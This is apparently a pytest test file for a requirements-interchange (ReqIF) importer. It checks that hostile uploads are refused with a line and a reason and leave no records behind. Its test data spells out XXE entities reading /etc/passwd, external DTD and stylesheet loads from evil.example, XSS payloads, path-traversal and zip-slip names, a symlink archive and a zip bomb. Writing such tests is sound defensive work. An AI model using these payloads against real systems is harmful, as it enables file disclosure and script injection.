"""Files that want to do harm are refused with line and reason, and nothing is written."""

import io
import struct
import zipfile

import pytest

from factories.reqif_files import HEAD, archive, one, place, reqif, three
from planweave.interchange.models import ImportSession
from planweave.interchange.reqif.document import read_document
from planweave.interchange.reqif.refusals import ReqifRefused
from planweave.interchange.tabular.limits import Limits
from planweave.kernel.models import Record

LINE = HEAD.count("\n") + 2
"""Where the first object of a file stands."""
PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 40


def with_doctype(inside):
    return three().replace(b"<REQ-IF ", f"<!DOCTYPE REQ-IF [{inside}]>\n<REQ-IF ".encode(), 1)


def text_of(xhtml):
    return reqif([one("r1", title="x", text=xhtml)], [place("r1")])


def svg(inside, attributes=""):
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    picture = f"<svg {names} {attributes}>{inside}</svg>"
    return archive({"a.reqif": three(), "p.svg": picture.encode()})


def symlink():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as target:
        target.writestr("a.reqif", three())
        entry = zipfile.ZipInfo("passwd")
        entry.external_attr = 0o120777 << 16
        target.writestr(entry, "/etc/passwd")
    return content.getvalue()


def bomb():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("a.reqif", three())
        target.writestr("zeros.png", PNG + bytes(60_000_000))
    return content.getvalue()


def encrypted():
    content = bytearray(archive({"a.reqif": three()}))
    at = content.index(b"PK\x01\x02") + 8
    struct.pack_into("<H", content, at, struct.unpack_from("<H", content, at)[0] | 1)
    return bytes(content)


HOSTILE = {
    "entities that multiply": (with_doctype('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">'), "doctype", 2),
    "a file of the server": (with_doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'), "doctype", 2),
    "an address": (with_doctype('<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;'), "doctype", 2),
    "a document type alone": (three().replace(b"<REQ-IF ", b"<!DOCTYPE html>\n<REQ-IF ", 1), "doctype", 2),
    "a style sheet": (
        three().replace(b"<REQ-IF ", b'<?xml-stylesheet href="http://evil.example/x.xsl"?>\n<REQ-IF ', 1),
        "instruction",
        2,
    ),
    "a script": (text_of("<xhtml:script>alert(1)</xhtml:script>"), "script", LINE),
    "a script link": (text_of('<xhtml:a href="java&#10;script:alert(1)">x</xhtml:a>'), "script", LINE),
    "a data link": (text_of('<xhtml:a href="data:text/html,x">x</xhtml:a>'), "script", LINE),
    "an event": (text_of('<xhtml:p onclick="alert(1)">x</xhtml:p>'), "script", LINE),
    "a style that loads": (text_of('<xhtml:p style="background:url(//evil.example)">x</xhtml:p>'), "script", LINE),
    "a picture elsewhere": (text_of('<xhtml:object data="http://evil.example/p.png"/>'), "outside_reference", LINE),
    "a picture of the server": (text_of('<xhtml:object data="file:///etc/passwd"/>'), "outside_reference", LINE),
    "a picture above": (text_of('<xhtml:object data="../../../etc/passwd"/>'), "outside_reference", LINE),
    "a picture above, hidden": (text_of('<xhtml:object data="%2e%2e/secret.png"/>'), "outside_reference", LINE),
    "a name that climbs": (archive({"a.reqif": three(), "../../evil.png": PNG}), "archive_unsafe_name", 0),
    "an absolute name": (archive({"a.reqif": three(), "/etc/evil": b""}), "archive_unsafe_name", 0),
    "a link in the archive": (symlink(), "archive_unsafe_name", 0),
    "a bomb": (bomb(), "archive_bomb", 0),
    "too many files": (archive({"a.reqif": three(), **{f"{n}.txt": b"" for n in range(2001)}}), "archive_too_many", 0),
    "an encrypted archive": (encrypted(), "archive_encrypted", 0),
    "half an archive": (archive({"a.reqif": three()})[:300], "archive_damaged", 0),
    "an archive of something else": (archive({"a.txt": b"x"}), "archive_without_reqif", 0),
    "a page called a picture": (archive({"a.reqif": three(), "p.png": b"<html><script>"}), "picture_false", 0),
    "a drawing with a script": (svg("<script>alert(1)</script>"), "picture_hostile", 1),
    "a drawing with an event": (svg("", 'onload="alert(1)"'), "picture_hostile", 1),
    "a drawing with a page": (svg("<foreignObject/>"), "picture_hostile", 1),
    "a drawing that loads": (svg('<image xlink:href="http://evil.example/p"/>'), "picture_hostile", 1),
    "a drawing with entities": (
        archive({"a.reqif": three(), "p.svg": b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>'}),
        "picture_hostile",
        1,
    ),
    "no XML": (b"\x00\x01\x02 nothing", "xml_damaged", 1),
    "half a file": (three()[:2000], "xml_damaged", None),
    "another format": (b'<?xml version="1.0"?>\n<html/>', "not_reqif", 2),
    "depth": (text_of("<xhtml:div>" * 300 + "</xhtml:div>" * 300), "xml_nesting", LINE),
    "nothing": (b"", "file_empty", 0),
    "a wrong encoding": (three().replace(b"Braking", b"Br\xff\xfe"), "xml_damaged", LINE),
    "a byte of zero": (three().replace(b"Braking", b"Br\x00king"), "xml_damaged", LINE),
    "one identifier twice": (
        reqif([one("r1", title="a"), one("r1", title="b")], [place("r1")]), "identifier_twice", LINE + 1
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("mend", [False, True])
def test_a_hostile_file_is_refused_with_line_and_reason(name, mend):
    content, code, line = HOSTILE[name]
    with pytest.raises(ReqifRefused) as refused:
        read_document(content, name="a.reqif", mend=mend)
    first = refused.value.faults[0]
    assert (first.code, refused.value.can_mend) == (code, False), refused.value.detail
    if line is not None:
        assert first.line == line
    assert first.say("zh") != first.say("en")


@pytest.mark.parametrize(
    "name", ["a script", "a file of the server", "a name that climbs", "a drawing with a script"]
)
def test_a_refused_file_leaves_nothing_behind(house, imports, name):
    content, code, line = HOSTILE[name]
    records, sessions = Record.objects.count(), ImportSession.objects.count()
    answer = imports.upload(content)
    assert answer.status_code == 422
    assert answer.json()["can_mend"] is False
    assert answer.json()["faults"][0]["code"] == code
    assert answer.json()["faults"][0]["line"] == line
    assert (Record.objects.count(), ImportSession.objects.count()) == (records, sessions)
    assert house.api("product_manager", "zh")("POST", f"{imports.path}").status_code == 422


def test_a_file_that_is_too_large_or_takes_too_long_is_refused():
    with pytest.raises(ReqifRefused) as refused:
        read_document(three(), name="a.reqif", limits=Limits(file_bytes=1000))
    assert refused.value.faults[0].code == "file_too_big"
    with pytest.raises(ReqifRefused) as refused:
        read_document(three(), name="a.reqif", limits=Limits(wall_seconds=0.01))
    assert refused.value.faults[0].code == "takes_too_long"
    with pytest.raises(ReqifRefused) as refused:
        read_document(three(), name="a.reqif", limits=Limits(memory_bytes=30 * 1024 * 1024))
    assert refused.value.faults[0].code == "needs_too_much_memory"


def test_a_comment_does_no_harm():
    content = three().replace(b"<SPEC-OBJECTS>", b"<!-- a comment --><SPEC-OBJECTS>")
    assert len(read_document(content, name="a.reqif").members[0].objects) == 3
